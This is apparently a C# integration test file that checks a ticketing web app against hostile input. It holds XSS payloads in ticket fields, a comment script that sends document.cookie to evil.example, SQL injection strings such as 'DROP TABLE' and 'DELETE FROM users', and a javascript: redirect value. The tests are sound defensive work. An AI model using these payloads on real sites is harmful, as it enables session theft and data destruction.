using System.Net;
using System.Text.Json.Nodes;
using Microsoft.EntityFrameworkCore;
using Shouldly;
using Ticketing.Domain.Sync;
using Ticketing.IntegrationTests.Sync;
using Ticketing.IntegrationTests.Webhooks;
using Ticketing.Simulator.Tickets;

namespace Ticketing.IntegrationTests.Faults;

/// <summary>
/// A remote whose tickets carry script and markup in every text field (and a comment that does, by
/// webhook), synced into an app with an admin signed in.
/// </summary>
public sealed class HostileInputFixture : IAsyncLifetime
{
    public const string Title = "<script>alert('title')</script> Printer <b>down</b>";
    public const string Description = "\"><img src=x onerror=alert('description')><svg onload=alert(2)>";
    public const string Category = "<i onmouseover=alert('category')>Net</i>";
    public const string Department = "</script><script>alert('department')</script>";
    public const string Requester = "<a href=\"javascript:alert('requester')\">Mallory</a>";
    public const string Tag = "<marquee>tag</marquee>";
    public const string CustomField = "<iframe src=\"javascript:alert('custom')\"></iframe>";
    public const string Comment = "<script>document.location='https://evil.example/?c='+document.cookie</script>";
    public const string UnicodeTitle = "Ünïcödé Ticket 🚀 中文 \u202Eevil\u202C zero\u200Bwidth ’quotes’ Ǆ";

    public TestApp App { get; private set; } = null!;

    public TestBrowser Admin { get; private set; } = null!;

    internal string HostileTicketId { get; private set; } = null!;

    internal Guid HostileCacheId { get; private set; }

    internal Guid UnicodeCacheId { get; private set; }

    public async ValueTask InitializeAsync()
    {
        App = await TestApp.StartAsync(new() { Purpose = "hostile" });
        var store = App.Simulator.Store;
        var customFields = new JsonObject { ["note"] = CustomField, ["<b>key</b>"] = "value", ["device"] = new JsonObject { ["name"] = CustomField } };
        var hostile = store.Create(
            new NewTicketInput(Title, Description, TicketPriority.Critical, Category, Department, Requester, "mallory@example.org", null, [Tag, "ok"], customFields.ToJsonString()),
            idempotencyKey: null).Ticket;
        store.Create(new NewTicketInput(UnicodeTitle, "Ω≈ç√∫ — naïve café ﷽", TicketPriority.Low, "Software", null, "Zoë Ñúñez", null, null, [], "{}"), null);
        HostileTicketId = hostile.Id;

        var outcome = await App.SyncAsync(full: true, SyncType.Manual);
        outcome.Result.ShouldNotBeNull().Run.Status.ShouldBe(SyncStatus.Success);

        // A comment arrives by webhook, as the remote sends comments.
        var comment = WebhookBodies.Event("ticket.comment_added", WebhookBodies.Ticket(hostile.Id, new DateTimeOffset(2020, 1, 1, 0, 0, 0, TimeSpan.Zero), Title), new JsonObject
        {
            ["id"] = "cmt_hostile_1",
            ["author_name"] = Requester,
            ["body"] = Comment,
            ["created_at"] = WebhookBodies.Timestamp(DateTimeOffset.UtcNow),
        });
        using var request = WebhookRequests.Signed(comment);
        using var response = await App.SendWebhookAsync(request);
        response.StatusCode.ShouldBe(HttpStatusCode.Accepted);

        await Eventually.UntilAsync(
            async () => await App.ScalarAsync<long>("SELECT count(*) FROM ticket_comments WHERE external_comment_id = 'cmt_hostile_1'") == 1,
            "the hostile comment is stored");

        await using var db = App.Database.CreateDbContext();
        HostileCacheId = await db.Tickets.Where(t => t.ExternalTicketId == hostile.Id).Select(t => t.Id).SingleAsync();
        UnicodeCacheId = await db.Tickets.Where(t => t.Title == UnicodeTitle).Select(t => t.Id).SingleAsync();
        Admin = await App.SignedInAsync(TestUser.Admin);
    }

    public async ValueTask DisposeAsync()
    {
        Admin.Dispose();
        await App.DisposeAsync();
    }
}

/// <summary>
/// Fault: hostile text from the remote (script and markup in titles, descriptions, categories,
/// departments, requester names, tags, custom fields and comments) and from users (SQL metacharacters,
/// 10,000-character strings, invalid enum and paging values, Unicode in search, filters and query
/// strings). The user sees: the text as text, or the page with a note about the ignored value —
/// never a 500, never markup executed. Data: the cache holds the remote's text verbatim.
/// </summary>
public sealed class HostileInputTests(HostileInputFixture fixture) : IClassFixture<HostileInputFixture>
{
    private static readonly string[] Payloads =
    [
        HostileInputFixture.Title, HostileInputFixture.Description, HostileInputFixture.Category, HostileInputFixture.Department,
        HostileInputFixture.Requester, HostileInputFixture.Tag, HostileInputFixture.CustomField, HostileInputFixture.Comment,
    ];

    /// <summary>Markup that would run or load something if it reached the page unencoded (encoded, it starts with &amp;lt;).</summary>
    private static readonly string[] Executable =
    [
        "<script>alert(", "<script>document", "<img src=x onerror", "\"><img", "<svg onload", "<i onmouseover", "<a href=\"javascript:", "<iframe", "<marquee>", "<b>down</b>", "<b>key</b>",
    ];

    private static readonly string Long = new('x', 10_000);

    /// <summary>As long as a query string may be: Kestrel refuses request lines over 8 KiB with 414.</summary>
    private static readonly string LongestQuery = new('y', 7_000);

    private TestApp App => fixture.App;

    private TestBrowser Admin => fixture.Admin;

    [Fact]
    public async Task The_cache_holds_the_remotes_hostile_text_verbatim()
    {
        await using var db = App.Database.CreateDbContext();
        var ticket = await db.Tickets.AsNoTracking().SingleAsync(t => t.Id == fixture.HostileCacheId, TestContext.Current.CancellationToken);

        ticket.Title.ShouldBe(HostileInputFixture.Title);
        ticket.Description.ShouldBe(HostileInputFixture.Description);
        ticket.Category.ShouldBe(HostileInputFixture.Category);
        ticket.Department.ShouldBe(HostileInputFixture.Department);
        ticket.RequesterName.ShouldBe(HostileInputFixture.Requester);
        (await App.ScalarAsync<string>("SELECT body FROM ticket_comments WHERE external_comment_id = 'cmt_hostile_1'")).ShouldBe(HostileInputFixture.Comment);
        (await App.ScalarAsync<string>("SELECT title FROM tickets_cache WHERE id = $1", fixture.UnicodeCacheId)).ShouldBe(HostileInputFixture.UnicodeTitle);
    }

    [Theory]
    [InlineData("/Tickets/Details/{hostile}", HostileInputFixture.Title)]
    [InlineData("/Tickets?q=Printer", HostileInputFixture.Title)]
    [InlineData("/Tickets?sort=priority&dir=desc", HostileInputFixture.Title)]
    [InlineData("/", HostileInputFixture.Category)]
    [InlineData("/Tickets", HostileInputFixture.Department)]
    [InlineData("/Projects/LinkTicket/{hostile}", HostileInputFixture.Title)]
    public async Task Hostile_remote_text_renders_as_text(string path, string shown)
    {
        var html = await Admin.GetHtmlAsync(path.Replace("{hostile}", fixture.HostileCacheId.ToString(), StringComparison.Ordinal));

        foreach (var markup in Executable)
        {
            html.ShouldNotContain(markup, Case.Insensitive, $"unencoded markup on {path}");
        }

        // And the text itself is there for the user to read, once decoded.
        WebUtility.HtmlDecode(html).ShouldContain(shown, Case.Sensitive, path);
    }

    [Fact]
    public async Task Every_hostile_field_is_shown_as_text_on_the_ticket_page()
    {
        var html = await Admin.GetHtmlAsync($"/Tickets/Details/{fixture.HostileCacheId}");
        var text = WebUtility.HtmlDecode(html);

        foreach (var payload in Payloads)
        {
            text.ShouldContain(payload, Case.Sensitive);
            html.ShouldNotContain(payload, Case.Sensitive);
        }
    }

    [Fact]
    public async Task Unicode_titles_and_descriptions_render_intact()
    {
        var text = WebUtility.HtmlDecode(await Admin.GetHtmlAsync($"/Tickets/Details/{fixture.UnicodeCacheId}"));

        text.ShouldContain(HostileInputFixture.UnicodeTitle);
        text.ShouldContain("Ω≈ç√∫ — naïve café ﷽");
        text.ShouldContain("Zoë Ñúñez");
    }

    [Fact]
    public async Task Json_and_csv_carry_hostile_text_as_data_for_their_format()
    {
        using var overview = await Admin.GetAsync("/overview/data");
        var json = await overview.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
        using var export = await Admin.GetAsync("/Tickets/Export?q=Printer");
        var csv = await export.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);

        // JSON is data for the page's scripts, which write it with textContent: the text comes back verbatim.
        overview.StatusCode.ShouldBe(HttpStatusCode.OK);
        overview.Content.Headers.ContentType!.MediaType.ShouldBe("application/json");
        overview.Headers.GetValues("X-Content-Type-Options").Single().ShouldBe("nosniff");
        System.Text.Json.JsonDocument.Parse(json).RootElement.ToString().ShouldContain(HostileInputFixture.Department);
        export.StatusCode.ShouldBe(HttpStatusCode.OK);
        export.Content.Headers.ContentType!.MediaType.ShouldBe("text/csv");
        csv.ShouldContain("<script>alert('title')</script> Printer <b>down</b>");
    }

    public static TheoryData<string> HostileQueries =>
    [
        "/Tickets?q=' OR 1=1; DROP TABLE tickets_cache; --",
        "/Tickets?q=%25_%5C%27%22%3B--%00",
        "/Tickets?q=" + LongestQuery,
        "/Tickets?category=" + LongestQuery,
        "/Admin/Audit?actor=" + LongestQuery,
        "/Notifications?type=" + LongestQuery,
        "/Tickets?category=" + Long + "&department=" + Long + "&assignee=" + Long,
        "/Tickets?category=%27%3B%20DELETE%20FROM%20users%3B--&department=%5C",
        "/Tickets?status=escalated&priority=%3Cscript%3E&sla=forever&sort=%27;--&dir=sideways",
        "/Tickets?status=" + Long + "&priority=" + Long + "&sort=" + Long,
        "/Tickets?page=-1&size=7",
        "/Tickets?page=2147483647&size=100",
        "/Tickets?page=99999999999999999999&size=abc",
        "/Tickets?page=%F0%9F%9A%80&size=%00",
        "/Tickets?q=%F0%9F%9A%80%E4%B8%AD%E6%96%87%E2%80%AE",
        "/Tickets?q=%ED%A0%80",
        "/Tickets?%3Cscript%3E=1&" + Long + "=2",
        "/Tickets/Export?q=' OR ''='&status=nope&page=-5",
        "/Tickets/Export?q=" + Long,
        "/Notifications?p=-1",
        "/Notifications?p=2147483647&type=%3Cscript%3E&unread=maybe",
        "/Notifications?p=99999999999999999999",
        "/Admin/SyncLogs?p=-3&type=nope&status=%27--&from=2026-13-45&to=yesterday",
        "/Admin/SyncLogs?p=2147483647",
        "/Admin/SyncLogs?p=99999999999999999999",
        "/Admin/Audit?actor=' OR 1=1 --&action=" + Long + "&p=2147483647&from=0000-00-00",
        "/Admin/Audit?actor=%25%5F&p=-2147483648",
        "/Admin/Users?page=2147483647&q=%27",
        "/Views/Save?query=%3Cscript%3Ealert(1)%3C/script%3E",
        "/Views/Save?query=" + Long,
        "/Projects/LinkTicket/{hostile}?kind=spaceship",
        "/Assignments/Create?projectId=not-a-guid",
        "/Tickets/Details/00000000-0000-0000-0000-000000000000",
        "/Tickets/Details/not-a-guid",
        "/overview/data?fresh=maybe",
        "/Sync?returnUrl=javascript:alert(1)",
    ];

    [Theory]
    [MemberData(nameof(HostileQueries))]
    public async Task Hostile_search_filter_and_paging_values_never_cause_a_500_or_echo_markup(string path)
    {
        using var response = await Admin.GetAsync(path.Replace("{hostile}", fixture.HostileCacheId.ToString(), StringComparison.Ordinal));
        var body = await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);

        ((int)response.StatusCode).ShouldBeLessThan(500, $"{path}: {body[..Math.Min(body.Length, 500)]}");
        response.StatusCode.ShouldBeOneOf(HttpStatusCode.OK, HttpStatusCode.Redirect, HttpStatusCode.NotFound, HttpStatusCode.BadRequest, HttpStatusCode.RequestUriTooLong);
        if (path.Length > 8192)
        {
            response.StatusCode.ShouldBe(HttpStatusCode.RequestUriTooLong);
        }
        body.ShouldNotContain("<script>alert", Case.Insensitive);
        body.ShouldNotContain("<script%3E", Case.Insensitive);
    }

    [Fact]
    public async Task A_hostile_search_finds_nothing_and_leaves_every_table_as_it_was()
    {
        var before = await App.ScalarAsync<long>("SELECT count(*) FROM tickets_cache") + await App.ScalarAsync<long>("SELECT count(*) FROM users");

        var html = await Admin.GetHtmlAsync("/Tickets?q=" + Uri.EscapeDataString("'; DELETE FROM tickets_cache; --"));
        var wildcards = await Admin.GetHtmlAsync("/Tickets?q=" + Uri.EscapeDataString("%_%\\_zq"));

        html.ShouldContain("No tickets match");
        wildcards.ShouldContain("No tickets match");
        (await App.ScalarAsync<long>("SELECT count(*) FROM tickets_cache") + await App.ScalarAsync<long>("SELECT count(*) FROM users")).ShouldBe(before);
    }

    [Fact]
    public async Task Hostile_values_in_a_posted_form_are_validated_not_stored_as_markup_and_never_a_500()
    {
        using var response = await Admin.PostFormAsync("/Projects/Create", new Dictionary<string, string>
        {
            ["Input.Name"] = "<script>alert('project')</script>",
            ["Input.Description"] = Long + Long,
            ["Input.Status"] = "exploding",
            ["Input.StartDate"] = "2026-02-31",
            ["Input.OwnerId"] = "' OR 1=1 --",
        });
        var html = await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);

        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        html.ShouldNotContain("<script>alert('project')</script>");
        (await App.ScalarAsync<long>("SELECT count(*) FROM projects WHERE name LIKE '%alert%'")).ShouldBe(0);
    }
}
